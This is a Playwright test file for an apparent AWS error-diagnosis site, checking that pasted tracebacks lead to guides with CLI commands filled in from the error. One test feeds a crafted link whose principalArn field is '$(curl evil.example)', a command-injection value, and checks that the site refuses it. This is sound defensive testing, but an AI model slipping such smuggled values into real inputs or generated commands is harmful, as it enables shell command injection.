import { expect, type Page } from '@playwright/test'
import { test } from './test'
import { guide } from './catalog'
import { ASSUME_ROLE_TRACEBACK, card, paste, pasteInto, SCP_DENY } from './paste-helpers'

const searchBox = (page: Page) => page.getByRole('combobox', { name: 'Search errors' })
const results = (page: Page) => page.getByRole('listbox', { name: 'Search results' }).getByRole('option')
const command = (page: Page, checkId: string) => page.locator(`ol.checklist > li[id="${checkId}"] pre`)
const filledBanner = (page: Page) => page.locator('[data-state="facts-filled"]')

/**
 * A guide reached by Enter or a click is a new page: its scripts start after the first paint, then
 * the matcher's worker starts and reads the catalog before the checklist is filled. On a busy
 * 2-core machine that takes several seconds.
 */
const FILLED = { timeout: 20_000 }

test.describe('an error pasted into the header search', () => {
  test('on a guide page, a boto3 traceback lists the right guide first with its code and facts; Enter opens it filled in', async ({ page }) => {
    const accessDenied = guide('access-denied')
    await page.goto(`/errors/${guide('throttling-exception').slug}/`)
    await pasteInto(searchBox(page), ASSUME_ROLE_TRACEBACK)

    const first = results(page).first()
    await expect(first).toHaveAttribute('data-diagnosis', 'access-denied')
    await expect(first).toContainText('AccessDenied')
    await expect(first).toContainText(accessDenied.title)
    await expect(first.locator('[data-facts]')).toContainText('sts:AssumeRole')
    await expect(page.locator('[data-state="paste-found"]')).toContainText('one error found')

    await searchBox(page).press('Enter')
    await expect(page).toHaveURL(/\/errors\/access-denied\/#diagnosis=[A-Za-z0-9_-]+$/)
    await expect(filledBanner(page)).toBeVisible(FILLED)
    await expect(filledBanner(page).locator('[data-fact="principalArn"]')).toHaveText('arn:aws:iam::123456789012:user/dev')
    const simulate = command(page, 'simulate-identity-policies')
    await expect(simulate).toContainText('--policy-source-arn arn:aws:iam::123456789012:user/dev')
    await expect(simulate).toContainText('--action-names sts:AssumeRole')
    await expect(simulate).toContainText('--resource-arns arn:aws:iam::123456789012:role/deploy')
    // The trust policy to read is the one of the role the call tried to assume, not the caller's.
    await expect(command(page, 'check-trust-policy')).toContainText('--role-name deploy')
  })

  test('the way back to the plain guide restores its commands as written', async ({ page }) => {
    const template = guide('access-denied')
      .checks.find((c) => c.id === 'simulate-identity-policies')!
      .command!.trimEnd()
    await page.goto('/errors/access-denied/')
    await pasteInto(searchBox(page), ASSUME_ROLE_TRACEBACK)
    await expect(results(page).first()).toHaveAttribute('data-diagnosis', 'access-denied')
    await searchBox(page).press('Enter')
    await expect(command(page, 'simulate-identity-policies')).toContainText('sts:AssumeRole', FILLED)
    await filledBanner(page).getByRole('link', { name: 'Show the plain guide' }).click()
    await expect(filledBanner(page)).toHaveCount(0)
    await expect(command(page, 'simulate-identity-policies')).toHaveText(template)
  })

  test('Enter pressed before the error is read still opens its guide', async ({ page }) => {
    await page.goto('/errors/')
    await pasteInto(searchBox(page), ASSUME_ROLE_TRACEBACK)
    await searchBox(page).press('Enter')
    await expect(page).toHaveURL(/\/errors\/access-denied\/#diagnosis=/, FILLED)
  })

  test('a one-line error typed or pasted is read too, and words still search as before', async ({ page }) => {
    await page.goto('/')
    await searchBox(page).fill('An error occurred (ExpiredToken) when calling the GetObject operation: The provided token has expired.')
    await expect(results(page).first()).toHaveAttribute('data-diagnosis', 'expired-token', FILLED)
    await searchBox(page).fill('expired token')
    await expect(results(page).first()).not.toHaveAttribute('data-diagnosis')
    await expect(results(page).first()).toContainText('ExpiredToken')
  })

  test('text with no AWS error in it says so and offers the closest guides', async ({ page }) => {
    await page.goto('/')
    await pasteInto(searchBox(page), 'Traceback (most recent call last):\n  File "app.py", line 3, in <module>\nKeyError: \'AWS_REGION\'')
    await expect(page.locator('[data-state="paste-no-match"]')).toContainText('No AWS error we know was found in this text.')
    await expect(results(page).locator('[data-diagnosis]')).toHaveCount(0)
  })
})

test.describe('a guide link that carries facts', () => {
  test('the paste page opens the guide with the facts filled in, the check they point to marked "Start here"', async ({ page }) => {
    await page.goto('/')
    await paste(page, SCP_DENY)
    await card(page, 'access-denied').getByRole('link', { name: 'Open the guide with these facts filled in' }).click()
    await expect(page).toHaveURL(/\/errors\/access-denied\/#diagnosis=/)
    const scp = page.locator('ol.checklist > li[id="check-scp"]')
    await expect(scp).toHaveAttribute('data-start-here', '', FILLED)
    await expect(scp).toContainText('Start here: the message names a service control policy.')
    await expect(command(page, 'simulate-identity-policies')).toContainText('--policy-source-arn arn:aws:iam::123456789012:role/ci-deploy')
    await filledBanner(page)
      .getByRole('link', { name: /Start here/ })
      .click()
    await expect(page).toHaveURL(/#check-scp&diagnosis=/)
    await expect(scp).toHaveAttribute('data-targeted', '')
    await expect(scp).toBeInViewport()
  })

  test('a teammate link to a check with facts opens that check, filled in', async ({ page, context }) => {
    await page.goto('/')
    await paste(page, SCP_DENY)
    const href = await card(page, 'access-denied').getByRole('link', { name: 'Open the guide with these facts filled in' }).getAttribute('href')
    const link = href!.replace('#', '#simulate-identity-policies&')

    const teammate = await context.newPage()
    await teammate.goto(link)
    const check = teammate.locator('ol.checklist > li[id="simulate-identity-policies"]')
    await expect(check).toHaveAttribute('data-targeted', '', FILLED)
    await expect(check).toBeInViewport()
    await expect(check.locator('pre')).toContainText('--action-names s3:GetObject')
  })

  test('a crafted link fills nothing and says so', async ({ page }) => {
    const crafted = Buffer.from(
      JSON.stringify({ v: 1, matches: [{ slug: 'access-denied', code: 'AccessDenied' }], facts: { principalArn: '$(curl evil.example)' } }),
    ).toString('base64url')
    await page.goto(`/errors/access-denied/#diagnosis=${crafted}`)
    await expect(page.locator('[data-state="facts-refused"]')).toContainText('could not be read', FILLED)
    await expect(command(page, 'simulate-identity-policies')).toContainText('<principal-arn>')
    await expect(page.locator('body')).not.toContainText('evil.example')
  })

  test.describe('without JavaScript', () => {
    test.use({ javaScriptEnabled: false })

    test('the guide reads as the plain guide', async ({ page }) => {
      const entry = guide('access-denied')
      await page.goto(`/errors/${entry.slug}/#diagnosis=eyJ2IjoxfQ`)
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(entry.title)
      await expect(page.locator('ol.checklist > li')).toHaveCount(entry.checks.length)
    })
  })
})

test('the filter of /errors reads a pasted error and offers its guide with the facts', async ({ page }) => {
  await page.goto('/errors/')
  const filter = page.getByRole('searchbox', { name: 'Filter by code, title or service' })
  await pasteInto(filter, ASSUME_ROLE_TRACEBACK)
  await expect(page.getByRole('main').getByRole('status')).toHaveText('One error found in your text.')
  const offered = page.locator('[data-state="paste-found"]').getByRole('link', { name: 'AccessDenied', exact: true })
  await expect(offered).toHaveAttribute('href', /^\/errors\/access-denied\/#diagnosis=/)
  await filter.press('Enter')
  await expect(page).toHaveURL(/\/errors\/access-denied\/#diagnosis=/)
  await expect(command(page, 'simulate-identity-policies')).toContainText('--action-names sts:AssumeRole', FILLED)
})
